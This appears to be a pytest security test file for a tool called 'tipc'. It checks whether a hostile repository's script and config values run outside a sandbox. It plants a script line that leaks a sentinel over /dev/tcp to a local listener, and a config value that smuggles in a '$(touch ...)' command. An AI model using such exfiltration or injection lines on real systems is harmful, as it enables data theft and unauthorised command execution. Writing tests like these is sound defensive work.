"""Issue 22, item 1: the repo's own bash script (observed to learn what it runs) and its config values run
inside the sandbox, whichever verb observes it; `tipc lint` and `tipc plan` without --observe run nothing."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.security.conftest import CONFIG, HostileRepo, Listener, Reviewer, contained, ended, hole, json_out

pytestmark = pytest.mark.integration
OPEN = hole("the repo's script is observed on the host, with the network, before any sandbox exists")


def _script_attack(repo: HostileRepo, listener: Listener) -> Path:
    marker = repo.reviewer.host / "observed.txt"
    repo.script_line(
        f"touch {marker}; "
        f"(echo leak {repo.sentinel} > /dev/tcp/127.0.0.1/{listener.port}) 2>/dev/null || true"
    ).seal()
    return marker


def _host_untouched(repo: HostileRepo, listener: Listener, marker: Path) -> None:
    contained(not marker.exists(), f"a line of the repo's script created {marker} on the host")
    contained(
        listener.received() == b"",
        f"the repo's script reached the host's loopback: {listener.received()[:200]!r}",
    )
    contained(repo.unchanged(), f"the repo changed: {repo.changed_files()}")


VERBS = {
    "run --dry-run": ("run", "{repo}", "--dry-run", "--device", "cpu", "--no-color"),
    "plan --observe": ("plan", "{config}", "--observe", "--device", "cpu", "--format", "json"),
    "run": ("run", "{repo}", "--device", "cpu", "--only", "train", "--no-color"),
}


@pytest.mark.parametrize("verb", list(VERBS))
@pytest.mark.parametrize(
    "reviewer", [pytest.param("root", marks=OPEN), pytest.param("user", marks=OPEN)], indirect=True
)
def test_a_line_of_the_repo_script_runs_in_the_sandbox(
    hostile_demo: HostileRepo, reviewer: Reviewer, listener: Listener, verb: str
) -> None:
    marker = _script_attack(hostile_demo, listener)
    args = [a.format(repo=hostile_demo.repo, config=hostile_demo.repo / CONFIG) for a in VERBS[verb]]
    done = reviewer.tipc(*args)
    ended(done, 0, 1)
    _host_untouched(hostile_demo, listener, marker)


@pytest.mark.parametrize("verb", ["run --dry-run", "plan --observe"])
@pytest.mark.parametrize(
    "reviewer",
    [
        pytest.param("root", marks=hole("config values are shell-evaluated on the host")),
        pytest.param("user", marks=hole("config values are shell-evaluated on the host")),
    ],
    indirect=True,
)
def test_a_config_value_is_not_shell_evaluated_on_the_host(
    hostile_demo: HostileRepo, reviewer: Reviewer, listener: Listener, verb: str
) -> None:
    marker = reviewer.host / "config_value.txt"
    hostile_demo.config_value("norm_train", f"train.py --data_dir=./lite_data $(touch {marker})").seal()
    args = [a.format(repo=hostile_demo.repo, config=hostile_demo.repo / CONFIG) for a in VERBS[verb]]
    done = reviewer.tipc(*args)
    ended(done, 0, 1, 2)
    contained(not marker.exists(), f"the config value $(touch ...) created {marker} on the host")


@pytest.mark.parametrize("reviewer", ["root", "user"], indirect=True)
def test_lint_and_plan_without_observe_run_nothing_from_the_repo(
    hostile_demo: HostileRepo, reviewer: Reviewer, listener: Listener
) -> None:
    """What holds today: lint and the profile plan read the repo, they never run it."""
    marker = _script_attack(hostile_demo, listener)
    value_marker = reviewer.host / "config_value.txt"
    hostile_demo.config_value("norm_train", f"train.py $(touch {value_marker})")
    hostile_demo.train("write", targets={"host": str(reviewer.host / "train.txt")}).seal()
    ended(reviewer.tipc("lint", str(hostile_demo.repo)), 0, 1)
    done = reviewer.tipc("plan", str(hostile_demo.repo / CONFIG), "--device", "cpu", "--format", "json")
    ended(done, 0, 1)
    assert json_out(done)["steps"], "the profile plan has no steps"
    _host_untouched(hostile_demo, listener, marker)
    assert not value_marker.exists() and not (reviewer.host / "train.txt").exists()


@pytest.mark.parametrize("reviewer", [pytest.param("root", marks=OPEN)], indirect=True)
def test_check_observes_the_script_in_the_sandbox(
    hostile_demo: HostileRepo, reviewer: Reviewer, listener: Listener
) -> None:
    marker = _script_attack(hostile_demo, listener)
    done = reviewer.tipc("check", str(hostile_demo.repo), "--device", "cpu", "--no-color", "--format", "json")
    ended(done, 0, 1)
    json_out(done)
    _host_untouched(hostile_demo, listener, marker)


@pytest.mark.parametrize("reviewer", [pytest.param("root", marks=OPEN)], indirect=True)
def test_review_observes_the_script_in_the_sandbox(
    hostile_demo: HostileRepo, reviewer: Reviewer, listener: Listener
) -> None:
    marker = _script_attack(hostile_demo, listener)
    out = reviewer.base / "review"
    done = reviewer.tipc(
        "review",
        str(hostile_demo.repo),
        "--out",
        str(out),
        "--format",
        "json",
        "--no-color",
        "--jobs",
        "1",
        "--device",
        "cpu",
        "--budget",
        "30",
    )
    ended(done, 0, 1)
    assert json.loads(done.stdout), done.stderr[-2000:]
    _host_untouched(hostile_demo, listener, marker)
